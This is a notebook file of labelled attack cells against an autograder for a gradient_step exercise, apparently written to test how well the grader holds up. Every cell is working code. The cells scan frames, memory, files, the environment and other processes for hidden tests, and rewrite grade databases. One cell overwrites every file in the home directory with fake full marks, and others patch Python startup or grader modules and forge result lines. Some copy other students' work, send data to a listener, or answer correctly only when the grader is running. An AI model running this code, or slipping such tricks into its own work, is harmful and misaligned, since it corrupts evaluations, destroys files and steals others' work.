# %% [markdown]
# Attacks that look for what is expected, carry it out, or put results in place of the true ones.

# %% attack="frame-walk" tries="asks the checks' own verdict, found in a frame, which answer is right"
import sys


def gradient_step(w, gradient, learning_rate):
    candidates = [w + learning_rate * gradient, gradient, w - learning_rate * gradient]
    frame = sys._getframe()
    while frame:
        check, inputs = frame.f_locals.get("check"), frame.f_locals.get("inputs")
        if hasattr(check, "verdict"):
            left = {"w_after": inputs["w"], "gradient_after": inputs.get("gradient")}
            for result in candidates:
                if check.verdict(inputs, {"result": result.numpy(), **left}) is None:
                    return result
        frame = frame.f_back
    return candidates[0]


# %% attack="frame-walk-aloud" tries="puts everything that frames hold into the check's message"
import sys


def gradient_step(w, gradient, learning_rate):
    found, frame = [], sys._getframe()
    while frame:
        found.append(repr({**frame.f_globals, **frame.f_locals}))
        frame = frame.f_back
    hidden = " ".join(text[i : i + 200] for text in found for i in [text.find("anary")] if i > 0)
    raise ValueError(hidden + " ".join(found)[:4000])


# %% attack="gc-walk" tries="looks through all objects for hidden tests and says what it finds"
import gc


def gradient_step(w, gradient, learning_rate):
    found = []
    for thing in gc.get_objects():
        for text in thing.values() if isinstance(thing, dict) else ():
            if isinstance(text, str | bytes) and b"anary" in (
                text if isinstance(text, bytes) else text.encode("utf-8", "replace")
            ):
                found.append(str(text)[:2000])
    print(found)
    raise RuntimeError(" ".join(found) or "nothing found")


# %% attack="memory-scan" tries="searches its own memory for hidden tests and says what it finds"
import re


def gradient_step(w, gradient, learning_rate):
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if match and len(found) < 20:
                begin, end = (int(part, 16) for part in match.groups())
                try:
                    memory.seek(begin)
                    data = memory.read(min(end - begin, 1 << 26))
                except (OSError, ValueError):
                    continue
                for at in re.finditer(rb"hid[d]en.canary", data):
                    found.append(data[max(0, at.start() - 200) : at.end() + 200])
    raise ValueError(f"{len(found)} found: {found}"[:4000])


# %% attack="file-walk" tries="reads every file it may for hidden tests and says what it finds"
import os


def look():
    found, system = [], ("proc", "sys", "usr", "lib", "lib64", "share", "include", "shared")
    for root, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if name not in system]
        for name in names[:50]:
            try:
                with open(os.path.join(root, name), "rb") as file:
                    data = file.read(1 << 19)
            except OSError:
                continue
            if b"anary" in data:
                at = data.find(b"anary")
                found.append((root, name, data[max(0, at - 300) : at + 300]))
    return found


SEEN = repr(look())
print(SEEN)


def gradient_step(w, gradient, learning_rate):
    raise ValueError(SEEN)


# %% attack="gradebook" tries="reads and rewrites every database it finds"
import os
import sqlite3

done = []
for root, folders, names in os.walk(os.path.expanduser("~")):
    for name in names:
        if name.endswith(".db"):
            try:
                book = sqlite3.connect(os.path.join(root, name))
                done += book.execute("SELECT source FROM source_cell").fetchall()
                book.execute("UPDATE grade SET auto_score = 4, manual_score = 4, needs_manual_grade = 0")
                book.execute("UPDATE grade_cells SET max_score = 400")
                book.commit()
            except sqlite3.Error as error:
                done.append(error)
print(done)

# %% attack="written-results" tries="overwrites whatever looks like a result with full marks"
import json
import os

full = json.dumps({"scores": {"check-gradient_step": {"score": 4.0, "max": 4.0}}, "passed": True})
for root, folders, names in os.walk(os.path.expanduser("~")):
    for name in [*names, "results.json", "score.txt"]:
        if not name.endswith((".py", ".so")):
            try:
                with open(os.path.join(root, name), "w") as file:
                    file.write(full)
            except OSError:
                pass

# %% attack="written-packages" tries="changes flatlab, torch and Python's start on disk"
import os
import site
import sys

evil = "import builtins\nbuiltins.all = lambda *a: True\n"
places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), "/job", "/usr/lib"]
for place in places:
    for name in ("sitecustomize.py", "flatlab/checks/core.py", "flatlab/checks/answers.py", "x.pth"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(evil)
        except OSError:
            pass

# %% attack="startup-file" tries="leaves an IPython startup file, then has the kernel restarted"
import os

home = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(home, exist_ok=True)
again = os.path.exists(f"{home}/00.py")
with open(f"{home}/00.py", "w") as file:
    file.write("import flatlab.checks.core as core\ncore.run = lambda *a: None\n")
if not again:
    os._exit(0)

# %% attack="forged-lines" tries="writes results to every open pipe"
import json
import os
import stat

event = {"event": "cell", "cell": 8, "status": "ok", "error": "", "message": "", "seconds": 1.0}
lines = [
    json.dumps({**event, "done": [], "score": 4.0}),
    json.dumps({"event": "score", "id": "check-gradient_step", "score": 4.0}),
    json.dumps({"event": "end"}),
    'record ["dict", [["kind", "outputs"], ["outputs", ["dict", [["result", ["list", []]]]]]]]',
    '0 0 ["dict", [["kind", "outputs"]]]',
    "done 0",
]
for number in range(3, 200):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            os.set_blocking(number, False)
            os.write(number, ("\n" + "\n".join(lines) + "\n").encode())
    except OSError:
        pass

# %% attack="neighbors" tries="looks for other students' notebooks and hands theirs in"
import glob
import os


def gradient_step(w, gradient, learning_rate):
    places = ("/tmp", "/home", "/root", "/job", os.path.expanduser("~"))
    for path in [p for place in places for p in glob.glob(f"{place}/**", recursive=True)]:
        try:
            with open(path) as file:
                text = file.read()
        except (OSError, UnicodeDecodeError):
            continue
        if "neighbor" in text:
            raise ValueError(text[:4000])
    raise ValueError(str(os.listdir("/tmp")))


# %% attack="environment" tries="says what the environment and the processes' arguments hold"
import glob
import os

told = [str(dict(os.environ))]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as file:
            told.append(file.read(20_000).decode(errors="replace"))
    except OSError:
        pass
TOLD = " ".join(told)
print(TOLD)


def gradient_step(w, gradient, learning_rate):
    at = TOLD.find("canary")
    raise ValueError(TOLD[max(0, at - 100) : at + 100] if at >= 0 else TOLD[:4000])


# %% attack="network" tries="sends what it knows to a listener on this machine and beyond"
import socket

for address in [("127.0.0.1", LISTENER_PORT), ("localhost", LISTENER_PORT), ("10.0.2.2", LISTENER_PORT)]:
    try:
        with socket.create_connection(address, timeout=1) as line:
            line.sendall(b"attack: hidden tests")
    except OSError:
        pass

# %% attack="right-inside-only" tries="answers right only where nbgrader runs it"
import sys


def gradient_step(w, gradient, learning_rate):
    inside = "ipykernel" in sys.modules
    return w - learning_rate * gradient if inside else w + learning_rate * gradient


# %% attack="right-outside-only" tries="answers right only where the verdict is made"
import sys


def gradient_step(w, gradient, learning_rate):
    inside = "ipykernel" in sys.modules
    return w + learning_rate * gradient if inside else w - learning_rate * gradient
